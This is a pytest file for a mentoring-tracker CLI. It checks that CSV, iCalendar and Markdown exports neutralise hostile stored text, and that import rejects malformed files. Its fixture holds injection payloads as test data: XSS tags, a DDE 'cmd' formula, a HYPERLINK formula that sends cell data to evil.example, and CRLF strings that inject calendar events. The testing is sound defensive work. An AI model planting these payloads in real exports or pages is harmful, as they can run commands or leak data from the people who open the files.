"""Cases 12 and 14, the parts the exchange tests leave open.

12: files that are not what `import` expects (JSON nested thousands deep, a calendar, random
bytes, an empty file, one over the size limit): one line naming the file, exit 1, nothing written.
14: hostile text in the store (spreadsheet formulas, calendar line breaks, raw HTML) exported as
CSV, iCalendar and Markdown: neutralised in every column, never a new calendar entry, never raw
HTML in the report.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from mentorkit.exchange.csvio import TRIGGERS
from reliability_helpers import fingerprint

HOSTILE = {
    "name": '<img src=x onerror=alert(1)> =cmd|"/c calc"!A1',
    "note": '=HYPERLINK("http://evil.example/?"&A1)\n<script>alert(1)</script>\n# not a heading',
    "agenda": "+1+1\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected",
    "notes": "@SUM(A1:A9)\nEND:VCALENDAR",
    "followup": "-2+3 <b>bold</b>",
    "advice": "\tTab-led =1+1",
}


@pytest.fixture
def hostile(ok: Callable[..., Any]) -> Callable[..., Any]:
    ok(
        "add-mentor",
        HOSTILE["name"],
        "--note",
        HOSTILE["note"],
        "--stage",
        "active",
        "--arena",
        "research",
        "--tag",
        "=2+2",
        "--institution",
        "@evil",
    )
    ok(
        "log",
        "1",
        "--agenda",
        HOSTILE["agenda"],
        "--notes",
        HOSTILE["notes"],
        "--followup",
        HOSTILE["followup"],
        "--advice",
        HOSTILE["advice"],
        "--when",
        "yesterday 10:00",
    )
    ok("plan", "1", "--when", "in 3 days 10:00", "--agenda", HOSTILE["agenda"])
    ok("flag", "1", "<iframe src=evil>", "--kind", "other")
    return ok


# ---- 14: hostile text going out ------------------------------------------------------------


@pytest.mark.parametrize("what", ["mentors", "meetings", "followups"])
def test_csv_exports_neutralise_formulas_in_every_cell(hostile: Callable[..., Any], what: str) -> None:
    text = hostile("export", "--format", "csv", "--what", what).stdout
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert rows[1:] and cells
    assert all(not cell or cell[0] not in TRIGGERS for cell in cells), [c for c in cells if c and c[0] in TRIGGERS]


def test_ics_export_line_breaks_in_text_never_make_new_entries(hostile: Callable[..., Any]) -> None:
    import icalendar

    text = hostile("export", "--format", "ics").stdout
    calendar = icalendar.Calendar.from_ical(text)
    events = [c for c in calendar.walk() if c.name == "VEVENT"]
    assert len(events) == 2  # the held and the planned meeting, nothing injected
    lines = text.splitlines()
    assert lines.count("BEGIN:VEVENT") == 2 and lines.count("END:VCALENDAR") == 1
    assert not any(str(e.get("SUMMARY", "")).startswith("injected") for e in events)
    descriptions = " ".join(str(e.get("DESCRIPTION", "")) for e in events)
    assert "SUMMARY:injected" in descriptions  # the text is kept, as text inside the description


def test_markdown_report_has_no_raw_html_from_the_store(hostile: Callable[..., Any]) -> None:
    text = hostile("export", "--format", "md").stdout
    for tag in ("<img", "<script", "<b>", "<iframe"):
        assert tag not in text, tag
    assert "&lt;img src=x onerror=alert(1)>" in text  # shown as text by a Markdown viewer
    assert "&lt;script>alert(1)&lt;/script>" in text


# ---- 12: files import must refuse ----------------------------------------------------------


def _deep_json(path: Path) -> None:
    path.write_text('{"a":' * 100_000 + "1" + "}" * 100_000)


def _calendar(path: Path) -> None:
    path.write_text("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")


def _random_bytes(path: Path) -> None:
    import random

    path.write_bytes(random.Random(12).randbytes(5000))


def _empty(path: Path) -> None:
    path.write_bytes(b"")


def _utf16_json(path: Path) -> None:
    path.write_text('{"format": "mentorkit", "format_version": 1, "tables": {}}', encoding="utf-16")


def _a_directory(path: Path) -> None:
    path.mkdir()


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (_deep_json, "too deeply"),
        (_calendar, "iCalendar"),
        (_random_bytes, "not valid utf-8"),
        (_empty, "empty"),
        (_utf16_json, "utf-8"),
        (_a_directory, "directory"),
    ],
    ids=lambda v: getattr(v, "__name__", "")[1:],
)
def test_import_refuses_files_that_are_not_imports(
    ok: Callable[..., Any], cli: Callable[..., Any], db_path: Path, tmp_path: Path, make: Any, words: str
) -> None:
    ok("add-mentor", "Ada Lovelace")
    before = fingerprint(db_path)
    target = tmp_path / f"incoming{make.__name__}"
    make(target)
    result = cli("import", str(target))
    assert result.exit_code == 1, (result.stdout[-500:], result.stderr)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: ") and "Traceback" not in result.stderr
    assert target.name in lines[0] and words.lower() in lines[0].lower(), lines[0]
    assert fingerprint(db_path) == before


def test_import_refuses_a_file_over_the_size_limit_before_reading_it_all(
    ok: Callable[..., Any], cli: Callable[..., Any], db_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mentorkit.exchange import importer

    monkeypatch.setattr(importer, "MAX_BYTES", 5_000_000)
    ok("add-mentor", "Ada Lovelace")
    before = fingerprint(db_path)
    huge = tmp_path / "huge.json"
    with huge.open("wb") as handle:
        handle.truncate(5_000_001)  # sparse: no disk used
    result = cli("import", str(huge))
    assert result.exit_code == 1 and "larger than 5 MB" in result.stderr and "huge.json" in result.stderr
    assert fingerprint(db_path) == before
